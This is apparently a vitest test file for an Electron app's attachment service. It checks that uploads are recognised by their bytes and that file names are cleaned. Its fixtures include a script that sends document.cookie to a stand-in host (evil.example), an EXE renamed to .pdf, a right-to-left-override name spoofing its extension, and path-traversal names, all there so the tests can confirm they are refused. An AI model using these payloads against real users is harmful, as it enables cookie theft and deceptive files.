import { promises as fs } from 'node:fs';
import path from 'node:path';
import { strToU8, zipSync, type Zippable } from 'fflate';
import { afterAll, describe, expect, it } from 'vitest';
import { encodeGreyPng } from '../../electron/core/documents/docx/parts/png';
import { AppError } from '../../electron/core/result';
import { safeFileName, storeAttachment } from '../../electron/core/services/attachments';
import { removeTempDirs, tempDir } from '../fixtures/harness';

afterAll(removeTempDirs);

/** Real bytes of each kind, as small as the formats allow. */
const FIXTURE = {
  pdf: () => Buffer.from('%PDF-1.4\n1 0 obj <</Type /Catalog>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n'),
  png: () => encodeGreyPng(4, 4, (x, y) => (x + y) % 2 === 0),
  jpg: () =>
    Buffer.from([
      0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00,
      0xff, 0xc0, 0x00, 0x0b, 0x08, 0x00, 0x10, 0x00, 0x10, 0x01, 0x01, 0x11, 0x00, 0xff, 0xd9,
    ]),
  docx: () =>
    zip({
      '[Content_Types].xml': '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
      '_rels/.rels': '<?xml version="1.0"?><Relationships/>',
      'word/document.xml': '<?xml version="1.0"?><w:document/>',
    }),
  xlsx: () =>
    zip({
      '[Content_Types].xml': '<?xml version="1.0"?><Types/>',
      '_rels/.rels': '<?xml version="1.0"?><Relationships/>',
      'xl/workbook.xml': '<?xml version="1.0"?><workbook/>',
    }),
  odt: () => openDocument('application/vnd.oasis.opendocument.text'),
  ods: () => openDocument('application/vnd.oasis.opendocument.spreadsheet'),
  csv: () => Buffer.from('no;judul;bidang\n1;Renstra 2025–2029;Sekretariat\n'),
  exe: () => Buffer.concat([Buffer.from([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00]), Buffer.alloc(58), Buffer.from('This program cannot be run in DOS mode.')]),
  html: () => Buffer.from('<!DOCTYPE html>\n<html><body><script>fetch("http://evil.example/?c="+document.cookie)</script></body></html>\n'),
  zip: () => zip({ 'catatan.txt': 'isi' }),
};

function zip(files: Record<string, string>): Buffer {
  return Buffer.from(zipSync(Object.fromEntries(Object.entries(files).map(([k, v]) => [k, strToU8(v)]))));
}

/** ODF requires `mimetype` first and stored uncompressed: that is how readers recognise it. */
function openDocument(mime: string): Buffer {
  const files: Zippable = {
    mimetype: [strToU8(mime), { level: 0 }],
    'content.xml': strToU8('<?xml version="1.0"?><office:document-content/>'),
    'META-INF/manifest.xml': strToU8('<?xml version="1.0"?><manifest:manifest/>'),
  };
  return Buffer.from(zipSync(files));
}

async function filesDir() {
  return path.join(await tempDir(), 'files');
}

async function refusal(name: string, bytes: Buffer) {
  const dir = await filesDir();
  const e = await storeAttachment(dir, name, bytes.toString('base64')).then(
    () => null,
    (x: unknown) => x,
  );
  expect(e, name).toBeInstanceOf(AppError);
  expect((e as AppError).code).toBe('INVALID_INPUT');
  // Bad input changes nothing on disk.
  await expect(fs.readdir(dir)).rejects.toMatchObject({ code: 'ENOENT' });
  return (e as AppError).message;
}

describe('attachments are checked by their content', () => {
  it.each([
    ['Renstra 2025-2029.pdf', 'pdf', 'application/pdf'],
    ['foto papan informasi.JPG', 'jpg', 'image/jpeg'],
    ['bagan organisasi.jpeg', 'jpg', 'image/jpeg'],
    ['denah.png', 'png', 'image/png'],
    ['SK PPID.docx', 'docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
    ['rekap permohonan.xlsx', 'xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
    ['laporan.odt', 'odt', 'application/vnd.oasis.opendocument.text'],
    ['anggaran.ods', 'ods', 'application/vnd.oasis.opendocument.spreadsheet'],
    ['daftar.csv', 'csv', 'text/csv'],
  ] as const)('accepts %s', async (name, kind, mime) => {
    const dir = await filesDir();
    const bytes = FIXTURE[kind]();
    const a = await storeAttachment(dir, name, bytes.toString('base64'));
    expect(a).toMatchObject({ name, mime, bytes: bytes.length });
    expect(await fs.readFile(path.join(dir, a.file))).toEqual(bytes);
  });

  it('accepts text as offices save it: Excel\'s Windows-1252 CSV and Notepad\'s UTF-16', async () => {
    const dir = await filesDir();
    const ansi = Buffer.from('no;judul\n1;Pengadaan barang \x96 2025\n', 'latin1');
    expect((await storeAttachment(dir, 'rekap.csv', ansi.toString('base64'))).mime).toBe('text/csv');
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('Daftar informasi publik\r\n', 'utf16le')]);
    expect((await storeAttachment(dir, 'catatan.txt', utf16.toString('base64'))).mime).toBe('text/plain');
  });

  it('refuses a program renamed to .pdf, saying what it really is', async () => {
    const message = await refusal('Laporan Keuangan.pdf', FIXTURE.exe());
    expect(message).toMatch(/"Laporan Keuangan\.pdf" ditolak: namanya berakhiran \.pdf, tetapi isinya program Windows \(EXE\)/);
  });

  it('refuses a web page renamed to .pdf', async () => {
    expect(await refusal('surat.pdf', FIXTURE.html())).toMatch(/isinya halaman web \(HTML\)/);
  });

  it('refuses a web page renamed to .txt or .csv: text is accepted only when it is plain text', async () => {
    expect(await refusal('catatan.txt', FIXTURE.html())).toMatch(/halaman web/);
    expect(await refusal('data.csv', FIXTURE.html())).toMatch(/halaman web/);
  });

  it('refuses a real PDF named .docx, and says which name would fit', async () => {
    const message = await refusal('SK PPID.docx', FIXTURE.pdf());
    expect(message).toMatch(/berakhiran \.docx, tetapi isinya PDF/);
    expect(message).toMatch(/ganti akhiran namanya menjadi \.pdf/);
  });

  it.each([
    ['foto.jpg', 'png', /gambar PNG/],
    ['rekap.xlsx', 'docx', /dokumen Word \(DOCX\)/],
    ['laporan.docx', 'odt', /OpenDocument \(ODT\)/],
    ['laporan.odt', 'ods', /OpenDocument \(ODS\)/],
    ['SK.docx', 'zip', /arsip ZIP/],
    ['scan.pdf', 'png', /gambar PNG/],
  ] as const)('refuses %s whose bytes are %s', async (name, kind, said) => {
    expect(await refusal(name, FIXTURE[kind]())).toMatch(said);
  });

  it('refuses bytes it cannot recognise under a document name', async () => {
    expect(await refusal('data.pdf', Buffer.from([0x00, 0x01, 0x02, 0xfe, 0xff, 0x00, 0x13]))).toMatch(/data yang tidak dikenali/);
  });
});

describe('attachment names', () => {
  it('removes bidi controls, so a name cannot show another extension than it has', async () => {
    // Displayed as "fakturexe.pdf"; the real extension is .exe.
    const spoofed = 'faktur\u202Efdp.exe';
    expect(safeFileName(spoofed)).toBe('fakturfdp.exe');
    expect(await refusal(spoofed, FIXTURE.exe())).toMatch(/Jenis berkas \.exe tidak diterima/);
  });

  it.each(['\u202A', '\u202B', '\u202C', '\u202D', '\u202E', '\u2066', '\u2067', '\u2068', '\u2069'])('removes U+%s', (ch) => {
    expect(safeFileName(`Laporan${ch} 2025.pdf`)).toBe('Laporan 2025.pdf');
  });

  it('removes other control characters and keeps folders out', async () => {
    expect(safeFileName('Laporan\u0000\u0007\n\t2025\u007f\u0085.pdf')).toBe('Laporan2025.pdf');
    expect(safeFileName('..\\..\\Windows\\system32\\SK: PPID?.pdf')).toBe('SK_ PPID_.pdf');
    expect(safeFileName('laporan.pdf. . ')).toBe('laporan.pdf');
    expect(safeFileName('\u202E\u2066')).toBe('berkas');
    const long = safeFileName(`${'Laporan realisasi anggaran '.repeat(10)}.pdf`);
    expect(long.length).toBeLessThanOrEqual(150);
    expect(long.endsWith('.pdf')).toBe(true);
    const dir = await filesDir();
    const a = await storeAttachment(dir, '../../Renstra\u2067 2025\r\n.pdf', FIXTURE.pdf().toString('base64'));
    expect(a.name).toBe('Renstra 2025.pdf');
  });
});
